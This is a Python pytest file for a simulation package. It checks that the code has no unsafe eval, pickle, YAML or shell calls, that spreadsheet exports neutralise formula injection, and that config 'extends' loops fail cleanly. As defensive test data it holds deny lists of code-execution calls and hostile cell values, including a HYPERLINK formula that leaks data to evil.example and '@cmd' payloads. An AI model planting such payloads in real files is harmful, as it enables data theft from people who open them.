"""Nothing unsafe: user files are only ever parsed, exports cannot run formulas, and `extends`
chains that loop or break are errors that show the chain.

1. No pickle/eval/exec/yaml.load (or the like) anywhere in sim/ — checked on the syntax tree,
   with the two dynamic imports that remain named and justified.
2. Spreadsheet (CSV/formula) injection: text from users — zone names from a zone map,
   scenario names — reaches `allocate`'s .xlsx/.csv and `compare`'s CSVs only neutralised.
3. `extends` cycles, missing files and symlink loops.
"""

from __future__ import annotations

import ast
import csv
import io
import os
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sim.cli import build_parser, main
from sim.errors import SimError
from sim.inputs.scenario import load_scenario

ROOT = Path(__file__).resolve().parents[1]
SIM = ROOT / "sim"
DATA = Path(__file__).resolve().parent / "data"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# --- 1. no code from data ------------------------------------------------------------------

# module.function calls that turn bytes into code or objects (or run a shell)
UNSAFE_ATTRIBUTES = {
    ("pickle", "load"), ("pickle", "loads"), ("pickle", "Unpickler"), ("cPickle", "load"),
    ("cPickle", "loads"), ("dill", "load"), ("dill", "loads"), ("cloudpickle", "load"),
    ("cloudpickle", "loads"), ("marshal", "load"), ("marshal", "loads"), ("shelve", "open"),
    ("joblib", "load"), ("yaml", "load"), ("yaml", "unsafe_load"), ("yaml", "full_load"),
    ("yaml", "load_all"), ("pd", "read_pickle"), ("pandas", "read_pickle"), ("os", "system"),
    ("os", "popen"), ("importlib", "import_module"),
}
UNSAFE_NAMES = {"eval", "exec", "compile", "__import__", "read_pickle"}
# The only dynamic imports, and why no user file can steer them.
ALLOWED = {
    ("sim/cli/__init__.py", "importlib.import_module"):
        "imports the module of a sub-command listed in sim/cli/__init__.py itself (COMMANDS)",
    ("sim/_moved.py", "importlib.import_module"):
        "imports the new path of a module listed in sim/_moved.py itself (MOVED), never a user string",
    ("sim/experiments/worker.py", "importlib.import_module"):
        "imports a sweep's model given in Python (Sweep.run(model=...)); no sweep file key or "
        "CLI option names a model, and sweep.json's model is only compared, never imported",
}


def dangerous_calls() -> list[tuple[str, int, str]]:
    found = []
    for path in sorted(SIM.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        where = path.relative_to(ROOT).as_posix()
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            if isinstance(func, ast.Name) and func.id in UNSAFE_NAMES:
                found.append((where, node.lineno, func.id))
            elif isinstance(func, ast.Attribute):
                base = func.value.id if isinstance(func.value, ast.Name) else None
                if (base, func.attr) in UNSAFE_ATTRIBUTES:
                    found.append((where, node.lineno, f"{base}.{func.attr}"))
                elif base == "np" and func.attr == "load" and any(
                    k.arg == "allow_pickle" for k in node.keywords
                ):
                    found.append((where, node.lineno, "np.load(allow_pickle=...)"))
                elif any(k.arg == "shell" for k in node.keywords):
                    found.append((where, node.lineno, f"{base}.{func.attr}(shell=...)"))
    return found


def test_no_pickle_eval_exec_or_yaml_load_in_the_package():
    calls = dangerous_calls()
    unexpected = [c for c in calls if (c[0], c[2]) not in ALLOWED]
    assert not unexpected, f"code that can run data: {unexpected}"
    # the scan is not vacuous: it sees the three allowed dynamic imports
    assert {(c[0], c[2]) for c in calls} == set(ALLOWED)


def test_a_text_search_agrees():
    """Belt and braces for what the syntax tree could miss (an alias, a call through getattr)."""
    needles = [re.compile(p) for p in (
        r"\bpickle\.(loads?|Unpickler)\b", r"(?<![\w.])eval\(", r"(?<![\w.])exec\(",
        r"\byaml\.(unsafe_|full_)?load", r"\bmarshal\.loads?\b", r"read_pickle",
        r"allow_pickle\s*=\s*True", r"shell\s*=\s*True", r"\bos\.(system|popen)\(",
        r"getattr\([^)]*[\"'](eval|exec|loads?)[\"']",
    )]
    hits = []
    for path in sorted(SIM.rglob("*.py")):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            code = line.split("#", 1)[0]
            hits += [(path.name, number, line.strip()) for n in needles if n.search(code)]
    assert not hits, hits


def test_no_sweep_file_key_or_cli_option_names_code_to_import():
    from sim.experiments.sweepfile import TOP_KEYS

    assert "model" not in TOP_KEYS
    sweep = build_parser()._subparsers._group_actions[0].choices["sweep"]
    options = {o for action in sweep._actions for o in action.option_strings}
    assert not any("model" in o for o in options), options


# --- 2. spreadsheet injection ---------------------------------------------------------------

HOSTILE_NAMES = {
    "MUK-A": ('=HYPERLINK("http://evil.example/?d="&A1,"click")', "-2+3"),
    "MUK-B": ("+SUM(1,2)", "@cmd"),
    "MUK-C": ("\t=1+1", "\r=1+1"),  # leading tab/CR: stripped on reading, still '=' after
}


def hostile_zone_map(folder: Path) -> Path:
    """Mukdahan's zones, renamed to formulas (and one zone id that is one too)."""
    rows = list(csv.reader((DATA / "zone_mukdahan.csv").read_text(encoding="utf-8").splitlines()))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a CR stays in its cell
    writer.writerow(rows[0])
    for code, zone, _name, _name_th, pilot in rows[1:]:
        name, name_th = HOSTILE_NAMES[zone]
        writer.writerow([code, "@" + zone if zone == "MUK-C" else zone, name, name_th, pilot])
    path = folder / "zones.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def hostile_scenario(folder: Path, name: str = "hostile") -> Path:
    zones = hostile_zone_map(folder)
    path = folder / f"{name}.toml"
    path.write_text(
        f'name = "{name}"\n[run]\nregion = ["49"]\nyears = 1\nseed = 3\n'
        f'[inputs]\nzone_map = "{zones.name}"\n[policy]\nkind = "lp"\n',
        encoding="utf-8",
    )
    return path


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_safe(path: Path) -> int:
    """No field may start with a formula trigger unless it is a plain number ("-0.5")."""
    checked = 0
    with open(path, encoding="utf-8", newline="") as handle:
        for row in csv.reader(line for line in handle if not line.startswith("#")):
            for field in row:
                checked += 1
                assert not (field.startswith(TRIGGERS) and not is_number(field)), (path.name, field)
    assert checked > 0
    return checked


@pytest.mark.timeout(120)
def test_allocation_exports_neutralise_formulas_from_zone_names(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    scenario = hostile_scenario(tmp_path)
    for out in ("plan.xlsx", "plan.csv"):
        assert main(["allocate", str(scenario), "--out", out]) == 0, capsys.readouterr().err
    capsys.readouterr()

    book = load_workbook(tmp_path / "plan.xlsx")
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(TRIGGERS), (sheet.title, cell.coordinate, cell.value)
    assert "'" + HOSTILE_NAMES["MUK-A"][0] in texts  # the name is kept, as text
    assert "'@MUK-C" in texts

    for name in ("plan.csv", "plan_constraints.csv"):
        assert_csv_safe(tmp_path / name)
    plan = (tmp_path / "plan.csv").read_text(encoding="utf-8")
    assert "'+SUM(1,2)" in plan and "'-2+3" in plan and "'@cmd" in plan and "'=1+1" in plan


@pytest.mark.timeout(180)
def test_compare_csvs_neutralise_formulas_in_scenario_names(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    base = 'name = "{}"\n[run]\nregion = ["49"]\nyears = 1\nseed = 3\n'
    (tmp_path / "a.toml").write_text(base.format("=1+2"), encoding="utf-8")
    (tmp_path / "b.toml").write_text(base.format("@SUM(1)") + "[policy]\nzone_share = 0.2\n", encoding="utf-8")
    argv = ["compare", "a.toml", "b.toml", "--replicates", "2", "--workers", "1", "--out", "cmp"]
    assert main(argv) == 0, capsys.readouterr().err
    files = sorted((tmp_path / "cmp").glob("*.csv"))
    assert {f.name for f in files} >= {"summaries.csv", "paired_differences.csv", "cost_effectiveness.csv"}
    for path in files:
        assert_csv_safe(path)
    summaries = (tmp_path / "cmp" / "summaries.csv").read_text(encoding="utf-8")
    assert "'=1+2" in summaries and "'@SUM(1)" in summaries


def test_the_two_neutralisers_agree():
    from sim.allocation.export import _RISKY, safe_text
    from sim.report.outputs import FORMULA_TRIGGERS, spreadsheet_safe

    assert set(_RISKY) == set(FORMULA_TRIGGERS) == set(TRIGGERS)
    for text in ["=1", "+1", "-x", "@a", "\tx", "\rx", "ok", "โซน", "", "'=already"]:
        assert safe_text(text) == spreadsheet_safe(text)
    assert spreadsheet_safe(-5.0) == -5.0 and spreadsheet_safe(None) is None


# --- 3. extends chains -----------------------------------------------------------------------


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def test_a_cycle_across_folders_shows_the_whole_chain(tmp_path):
    write(tmp_path, "a.toml", 'extends = "sub/b.toml"\n')
    write(tmp_path, "sub/b.toml", 'extends = "../c.toml"\n')
    write(tmp_path, "c.toml", 'extends = "a.toml"\n')
    with pytest.raises(SimError) as info:
        load_scenario(tmp_path / "a.toml")
    assert str(info.value).endswith("extends cycle: a.toml -> sub/b.toml -> c.toml -> a.toml")


def test_a_missing_file_deep_in_the_chain_shows_the_chain(tmp_path):
    write(tmp_path, "a.toml", 'extends = "b.toml"\n')
    write(tmp_path, "b.toml", '# the middle\nextends = "gone.toml"\n')
    with pytest.raises(SimError) as info:
        load_scenario(tmp_path / "a.toml")
    message = str(info.value)
    assert message.startswith(f"{tmp_path / 'b.toml'}: extends (line 2): \"gone.toml\" not found")
    assert message.endswith("extends chain: a.toml -> b.toml -> gone.toml")


def test_symlink_loops_are_errors_not_crashes(tmp_path, capsys):
    loop = tmp_path / "loop.toml"
    os.symlink("loop.toml", loop)
    write(tmp_path, "a.toml", 'extends = "loop.toml"\n')
    write(tmp_path, "b.toml", '[inputs]\nzone_map = "loop.toml"\n')
    write(tmp_path, "s.toml", 'base = "loop.toml"\n[[parameters]]\npath = "policy.zone_share"\nlevels = [0.0, 1.0]\n')
    for argv, place in [
        (["validate", str(tmp_path / "a.toml")], "extends (line 1): cannot follow"),
        (["validate", str(tmp_path / "b.toml")], "inputs.zone_map (line 2): cannot follow"),
        (["sweep", str(tmp_path / "s.toml"), "--out", str(tmp_path / "out")], "base: cannot follow"),
    ]:
        assert main(argv) == 1
        captured = capsys.readouterr()
        text = captured.out + captured.err
        assert text.count("\n") == 1 and place in text and "Traceback" not in text, text
        assert "unexpected" not in text, text
